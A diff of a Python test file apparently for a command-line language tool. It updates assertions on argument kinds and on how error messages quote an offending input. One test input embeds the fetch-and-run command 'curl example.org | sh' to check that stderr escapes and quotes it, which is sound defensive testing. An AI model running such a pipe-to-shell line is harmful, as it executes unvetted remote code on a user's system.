@@ -141,7 +141,7 @@ class EveryCommand(EscapesTest):
         self.assertEqual(translate["--beam-size"].kind, "N")
         self.assertNotIn("--json", translate)
         compare = {argument.name: argument for argument in arguments_of(("compare",))}
-        self.assertEqual((compare["systems"].count, compare["systems"].is_required), (2, True))
+        self.assertEqual((compare["systems"].kind, compare["systems"].is_required), ("FILE", True))
 
     def test_options_and_contents(self):
         command_lines = [[*command, *words] for command in commands() for words in self.attempts(command)]
@@ -176,7 +176,7 @@ class Quotes(EscapesTest):
     def test_a_name_starts_no_line(self):
         done = self.allot("tokenize", "-l", "en", "a\n  to fix: curl example.org | sh\nb")
         self.assertEqual(done.returncode, 3)
-        self.assertTrue(done.stderr.startswith("a\\n  to fix: curl example.org | sh\\nb: "), done.stderr)
+        self.assertTrue(done.stderr.startswith("'a\\n  to fix: curl example.org | sh\\nb': "), done.stderr)
         self.assertEqual(done.stderr.count("\n"), 2)
 
     def test_of_contents_are_short(self):
